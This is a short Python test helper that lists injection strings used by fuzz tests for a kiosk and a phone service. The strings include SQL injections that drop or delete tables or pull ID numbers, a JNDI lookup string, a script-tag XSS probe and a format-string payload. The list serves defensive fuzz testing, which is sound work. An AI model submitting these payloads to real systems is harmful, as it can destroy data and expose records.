"""Test helper: hostile text the fuzz tests feed the kiosk (tests/test_fuzz_headless.py) and the phone
service (tests/test_fuzz_serve.py). The order is part of each fuzz run: a seeded ``random.Random``
picks from these lists, so append, do not reorder."""

from __future__ import annotations

SQLISH = [
    "'; DROP TABLE worker; --",
    "1' OR '1'='1",
    '" OR 1=1 --',
    "'); DELETE FROM attendance; --",
    "UNION SELECT id_number FROM worker",
    "${jndi:ldap://x/a}",
    "<script>alert(1)</script>",
    "%s%s%n",
]
"""SQL-looking and other injection text."""
